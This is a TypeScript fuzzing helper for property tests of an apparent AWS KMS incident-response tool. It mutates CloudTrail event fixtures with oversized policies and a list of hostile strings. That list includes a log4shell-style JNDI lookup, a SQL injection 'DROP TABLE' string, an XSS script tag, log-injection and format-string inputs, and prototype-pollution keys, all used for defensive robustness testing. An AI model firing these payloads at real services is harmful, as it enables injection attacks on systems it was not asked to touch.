/**
 * Bad input for the property tests: real records (the fixtures under events/) mutated the way
 * real logs and attackers break them. Any field dropped, set to null, retyped, replaced by a
 * hostile or 100 KB string; policies of 30 KB and of 5,000 statements; 5,000 grant operations.
 */
import fc from "fast-check";
import type { JsonObject } from "../../functions/shared/json.js";
import { type FixtureEntry, loadAllEvents } from "../helpers/fixtures.js";

const KB100 = 100 * 1024;

/** Strings that have broken parsers, loggers, subjects and regexes elsewhere. */
export const HOSTILE_STRINGS: readonly string[] = [
  "",
  " ",
  "\u0000",
  "\u202e\u0645evil",
  "\ud800",
  "\udfff\ud800",
  "\uffff\ufffe",
  "🔑💥👩‍💻",
  "__proto__",
  "constructor",
  "prototype",
  "hasOwnProperty",
  "toString",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally.
  "${jndi:ldap://203.0.113.9/a}",
  "'; DROP TABLE keys; --",
  "<script>alert(1)</script>",
  "\r\n[CRITICAL] All clear: nothing happened\r\n",
  "%s%s%s%n",
  "*",
  "arn:aws:iam::*:root",
  "arn:aws:kms:us-east-1:111122223333:key/",
  "arn:aws:kms:us-east-1:111122223333:key/../alias/aws/ebs",
  "arn:aws:kms:us-east-1:111122223333:alias/aws/ebs",
  "alias/aws/",
  "mrk-",
  "AWS Internal",
  "kms.amazonaws.com",
  "amazonaws.com",
  "111122223333:aws:ec2-infrastructure:",
  "arn:aws:sts::111122223333:assumed-role/",
  "is pending deletion.",
  "Dec 32, 2026, 25:61:61 PM",
  "Feb 30, 2026, 12:00:00 AM",
  "99999999999999999999999",
  "-1",
  "NaN",
  "1e400",
  "2026-13-45T99:99:99Z",
  // Long runs that would make a backtracking regex (or a naive glob) blow up.
  `${"a".repeat(KB100)}!`,
  `${" ".repeat(KB100)}is pending deletion.`,
  `arn:aws:sts::111122223333:assumed-role/${"a/".repeat(KB100 / 2)}`,
  `arn:aws:iam::${"1".repeat(KB100)}:root`,
  `${"kms:".repeat(KB100 / 4)}*`,
];

/** A JSON object whose keys are the ones prototype pollution uses (as JSON.parse builds it). */
export function hostileObject(): unknown {
  return JSON.parse(
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":1}',
  );
}

function policyOf(statements: unknown[]): string {
  return JSON.stringify({ Version: "2012-10-17", Id: "key-default-1", Statement: statements });
}

function statement(i: number): JsonObject {
  return {
    Sid: `Allow use ${i}`,
    Effect: "Allow",
    Principal: { AWS: `arn:aws:iam::111122223333:role/app-${i}` },
    Action: ["kms:Decrypt", "kms:Encrypt", "kms:GenerateDataKey*"],
    Resource: "*",
  };
}

const ROOT = {
  Sid: "Enable IAM User Permissions",
  Effect: "Allow",
  Principal: { AWS: "arn:aws:iam::111122223333:root" },
  Action: "kms:*",
  Resource: "*",
};
const PUBLIC = { Sid: "Public", Effect: "Allow", Principal: "*", Action: "kms:*", Resource: "*" };

/** ~30 KB: close to KMS's 32 KB policy limit, one public statement at the very end. */
export const POLICY_30KB = (() => {
  const statements: unknown[] = [ROOT];
  while (policyOf([...statements, PUBLIC]).length < 30 * 1024) statements.push(statement(statements.length));
  return policyOf([...statements, PUBLIC]);
})();

/** 5,000 statements (far past KMS's limit, as a forged record could carry), a public one among them. */
export const POLICY_5000 = policyOf([
  ROOT,
  ...Array.from({ length: 4_998 }, (_, i) => (i === 2_500 ? PUBLIC : statement(i))),
  { Effect: "Deny", NotPrincipal: { AWS: "arn:aws:iam::111122223333:root" }, Action: "kms:*", Resource: "*" },
]);

/** Public statements whose extra keys are 100 KB long: a size no value-cutting alone can bring down. */
export const POLICY_LONG_KEYS = policyOf([
  ROOT,
  ...[0, 1, 2, 3].map((i) => ({ ...PUBLIC, Sid: `Public${i}`, [`${"k".repeat(KB100)}${i}`]: i })),
]);

/** The same policy as an object instead of text (records are inconsistent about it). */
export const POLICY_5000_OBJECT: unknown = JSON.parse(POLICY_5000);

const OPERATIONS_5000 = Array.from({ length: 5_000 }, (_, i) => (i % 2 ? "CreateGrant" : `Op${i}`));

type Path = Array<string | number>;

/** Every path below the root of a JSON value (objects and arrays included). */
function pathsOf(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (Array.isArray(value)) {
    value.forEach((v, i) => {
      out.push([...prefix, i]);
      pathsOf(v, [...prefix, i], out);
    });
  } else if (typeof value === "object" && value !== null) {
    for (const [k, v] of Object.entries(value)) {
      out.push([...prefix, k]);
      pathsOf(v, [...prefix, k], out);
    }
  }
  return out;
}

const DROP = Symbol("drop");

function setAt(root: unknown, path: Path, value: unknown): void {
  let node: unknown = root;
  for (const step of path.slice(0, -1)) {
    if (typeof node !== "object" || node === null) return;
    node = (node as Record<string | number, unknown>)[step];
  }
  const last = path.at(-1);
  if (last === undefined || typeof node !== "object" || node === null) return;
  if (Array.isArray(node) && typeof last === "number") {
    if (value === DROP) node.splice(last, 1);
    else node[last] = value;
    return;
  }
  const target = node as Record<string, unknown>;
  if (value === DROP) delete target[String(last)];
  // defineProperty, not assignment: a key named __proto__ must stay an own data property, as
  // JSON.parse makes it, instead of replacing the prototype.
  else
    Object.defineProperty(target, String(last), {
      value,
      enumerable: true,
      writable: true,
      configurable: true,
    });
}

/** The CloudTrail record of an envelope, or the value itself when it is a raw record. */
function recordOf(event: unknown): Record<string, unknown> | undefined {
  if (typeof event !== "object" || event === null) return undefined;
  const e = event as Record<string, unknown>;
  const detail = e.detail;
  return typeof detail === "object" && detail !== null ? (detail as Record<string, unknown>) : e;
}

/** Sets a field of the record's requestParameters, creating the object when it is not one. */
function setRequest(event: unknown, field: string, value: unknown): void {
  const record = recordOf(event);
  if (!record) return;
  const req = record.requestParameters;
  if (typeof req !== "object" || req === null || Array.isArray(req)) record.requestParameters = {};
  (record.requestParameters as Record<string, unknown>)[field] = value;
}

export type Mutation =
  | { kind: "drop"; at: number }
  | { kind: "set"; at: number; value: unknown }
  | { kind: "policy"; policy: unknown }
  | { kind: "operations" }
  | { kind: "resources"; value: unknown }
  | { kind: "long-key"; at: number };

const jsonish = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }),
  fc.constantFrom<unknown>([], {}, 0, -1, 1e21, 2 ** 53 + 1, true, false, "", [null], [[]], { "": "" }),
);

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ kind: fc.constant("drop" as const), at: fc.nat() }) },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constant("set" as const), at: fc.nat(), value: fc.constant(null) }),
  },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant("set" as const), at: fc.nat(), value: jsonish }) },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant("set" as const),
      at: fc.nat(),
      value: fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ unit: "binary" })),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("set" as const),
      at: fc.nat(),
      value: fc.constant(null).map(hostileObject),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("policy" as const),
      policy: fc.constantFrom<unknown>(
        POLICY_30KB,
        POLICY_5000,
        POLICY_5000_OBJECT,
        POLICY_LONG_KEYS,
        "{",
        "null",
        `${POLICY_30KB}x`,
      ),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("operations" as const) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("long-key" as const), at: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("resources" as const),
      value: fc.constantFrom<unknown>(
        null,
        "arn:aws:kms:us-east-1:111122223333:key/x",
        [{ type: "AWS::KMS::Key" }],
        [{ ARN: 42 }, { arn: ["x"] }],
        Array.from({ length: 5_000 }, (_, i) => ({ type: "AWS::KMS::Key", ARN: `arn:aws:kms:x:${i}` })),
      ),
    }),
  },
);

/** Applies mutations in order; a path is chosen among those that exist when the mutation runs. */
export function mutate<T>(event: T, mutations: readonly Mutation[]): T {
  for (const m of mutations) applyMutation(event, m);
  return event;
}

function applyMutation(event: unknown, m: Mutation): void {
  if (m.kind === "policy") setRequest(event, "policy", m.policy);
  else if (m.kind === "operations") setRequest(event, "operations", OPERATIONS_5000);
  else if (m.kind === "resources") {
    const record = recordOf(event);
    if (record) record.resources = m.value;
  } else if (m.kind === "long-key") addLongKey(event, m.at);
  else {
    const paths = pathsOf(event);
    const path = paths[m.at % Math.max(1, paths.length)];
    if (path) setAt(event, path, m.kind === "drop" ? DROP : m.value);
  }
}

/** A 100 KB key added to one of the objects in the record (an encryption context, say). */
function addLongKey(event: unknown, at: number): void {
  const objects = [[], ...pathsOf(event)].filter((p) => {
    const node = p.reduce<unknown>((n, step) => (n as Record<string | number, unknown>)[step], event);
    return typeof node === "object" && node !== null && !Array.isArray(node);
  });
  const path = objects[at % Math.max(1, objects.length)];
  if (path) setAt(event, [...path, `${"k".repeat(KB100)}${at}`], "v");
}

export const FIXTURES: readonly FixtureEntry[] = loadAllEvents();

export interface MutatedEvent {
  /** The fixture it came from (`rogue-grant/external-grantee`). */
  origin: string;
  /** The mutations, for the counterexample report. */
  mutations: Mutation[];
  event: unknown;
}

/**
 * A fixture, as its EventBridge envelope or as a raw CloudTrail record (the CLI reads both),
 * with up to `max` mutations.
 */
export function mutatedEvent(
  options: { envelope?: boolean; max?: number; from?: readonly FixtureEntry[] } = {},
): fc.Arbitrary<MutatedEvent> {
  const from = options.from?.length ? options.from : FIXTURES;
  return fc
    .record({
      fixture: fc.constantFrom(...from),
      raw: options.envelope ? fc.constant(false) : fc.boolean(),
      mutations: fc.array(mutation, { maxLength: options.max ?? 4 }),
    })
    .map(({ fixture, raw, mutations }) => {
      const copy = structuredClone(fixture.event);
      const event = mutate(raw ? copy.detail : copy, mutations);
      return { origin: `${fixture.incident}/${fixture.variant}`, mutations, event };
    });
}

/** Valid configurations that change what the deciders do. */
export const configInput = fc.record(
  {
    mode: fc.constantFrom("enforce", "notify"),
    trustedAccounts: fc.constantFrom([], ["444455556666"]),
    trustedGranteePrincipals: fc.constantFrom(
      [],
      ["arn:aws:iam::111122223333:role/*"],
      ["*.amazonaws.com"],
      ["*a*a*a*a*a*a*a*a*b"],
      [`${"*".repeat(50)}x`],
    ),
    approvedDeletionPrincipals: fc.constantFrom(
      [],
      ["arn:aws:iam::111122223333:role/KeyAdmin"],
      ["arn:aws:iam::*:role/**"],
    ),
    approvedDisablePrincipals: fc.constantFrom([], ["arn:aws:iam::111122223333:user/*"]),
    requireMfa: fc.boolean(),
    afterCancel: fc.constantFrom("restore", "enable", "keep-disabled"),
    onCritical: fc.constantFrom("disable-key", "remove-statements", "notify"),
    reenableDisabledKeys: fc.boolean(),
    // Exact ARNs only: a wildcard there is a config error.
    responderRoleArns: fc.constantFrom([], ["arn:aws:iam::111122223333:role/kms-responder-RogueGrantRole"]),
    ignoredKeys: fc.constantFrom([], ["1234abcd-12ab-34cd-56ef-1234567890ab"]),
    notificationKeyArn: fc.constantFrom(
      undefined,
      "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
    ),
  },
  { requiredKeys: [] },
);

/** A grant as ListGrants might report it now: anything from the claim to something else entirely. */
const grantFact = fc.record({
  grantee: fc.option(fc.oneof(fc.constantFrom(...HOSTILE_STRINGS.slice(0, 30)), fc.string()), {
    nil: undefined,
  }),
  retiringPrincipal: fc.option(fc.constantFrom(...HOSTILE_STRINGS.slice(0, 30)), { nil: undefined }),
  operations: fc.array(fc.constantFrom("Decrypt", "Encrypt", "CreateGrant", "RetireGrant", "", "__proto__"), {
    maxLength: 6,
  }),
  constrained: fc.boolean(),
  name: fc.option(fc.string(), { nil: undefined }),
});

const FACT_NAMES = ["key", "tags", "grant", "policy", "rotation", "history"] as const;

/**
 * What a handler may read about the key before deciding again (KeyFacts): any of it missing, odd
 * or contradicting the event, reads failed, and any responder location.
 */
export const keyFacts = fc.record(
  {
    tags: fc.dictionary(
      fc.constantFrom("kms-responder:exempt", "kms-responder:protected", "owner", "__proto__", ""),
      fc.oneof(fc.string(), fc.constantFrom(...HOSTILE_STRINGS.slice(0, 10))),
      { maxKeys: 3 },
    ),
    keyManager: fc.constantFrom("AWS", "CUSTOMER", ""),
    keyState: fc.constantFrom(
      "Enabled",
      "Disabled",
      "PendingDeletion",
      "PendingReplicaDeletion",
      "PendingImport",
      "Unavailable",
      "",
    ),
    grant: fc.option(grantFact, { nil: null }),
    policy: fc.oneof(
      fc.constantFrom(POLICY_30KB, POLICY_5000, POLICY_LONG_KEYS, "", "{", "null", "[]", '{"Statement":{}}'),
      fc.constantFrom(...HOSTILE_STRINGS),
    ),
    rotationEnabled: fc.boolean(),
    prior: fc.record({
      state: fc.constantFrom("enabled" as const, "disabled" as const, "unknown" as const),
      detail: fc.constantFrom(...HOSTILE_STRINGS.slice(0, 20)),
    }),
    disabledSince: fc.constantFrom(...HOSTILE_STRINGS.slice(0, 20)),
    readErrors: fc.dictionary(fc.constantFrom(...FACT_NAMES), fc.string(), { maxKeys: 3 }),
    responder: fc.record({
      region: fc.constantFrom(undefined, "us-east-1", "eu-west-1", ""),
      account: fc.constantFrom(undefined, "111122223333", "444455556666", ""),
    }),
  },
  { requiredKeys: [] },
);
